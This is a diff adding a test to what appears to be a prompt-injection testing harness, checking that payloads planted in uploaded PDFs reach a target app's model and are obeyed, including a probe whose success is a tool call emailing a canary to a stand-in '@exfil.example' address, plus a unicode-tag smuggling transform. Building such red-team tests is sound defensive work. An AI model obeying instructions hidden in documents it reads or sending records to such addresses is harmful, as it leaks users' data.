@@ -459,3 +459,24 @@ def test_an_app_that_keeps_uploads_with_the_conversation_is_planted_in_the_case_
     assert sorted(settings.uploaded_in[i] for i in sorted(settings.uploaded_in)[-3:]) == sorted(asked_in)
     assert len(asked_in) == 3
     assert settings.docs == {}
+
+
+def test_documents_go_as_pdfs_to_an_app_that_takes_nothing_else(rag, tmp_path):
+    settings, campaign = rag
+    settings.pdf_only = True  # it extracts the text of each PDF upload, and refuses anything else
+    (refused,) = campaign("doc-say-canary")["results"]
+    assert refused["outcome"] == "error" and "only PDF files" in refused["error"]
+    data = campaign("doc-say-canary,doc-email-records", read_back=True, pdf=True)
+    by = {r["probe"]: r for r in data["results"]}
+    # The app read the text out of the PDF: the read-back shows it, and its model obeyed it.
+    assert all(r["evidence"]["delivered"] is True for r in by.values())
+    assert by["doc-say-canary"]["outcome"] == "succeeded"
+    mail = by["doc-email-records"]  # the address whole, though the PDF's line broke before it
+    assert mail["evidence"]["tool_calls"][0]["arguments"] == {"to": f"{mail['canary']}@exfil.example"}
+    # A payload that only exists in characters outside Latin-1 cannot be written in a standard font:
+    # dropped, the document would carry no payload, and the case would test nothing. It is said.
+    path = tmp_path / "rag.yaml"
+    (tags,) = run_campaign(load([SHOPBOT]), target=f"http:{path}", probes="doc-say-canary", transforms="unicode-tags",
+                           db=str(tmp_path / "h.sqlite"), force=True)["results"]
+    assert tags["outcome"] == "error" and tags["error"].startswith(
+        "planting: a PDF in a standard font holds Latin-1 text only, and this document has U+E00")
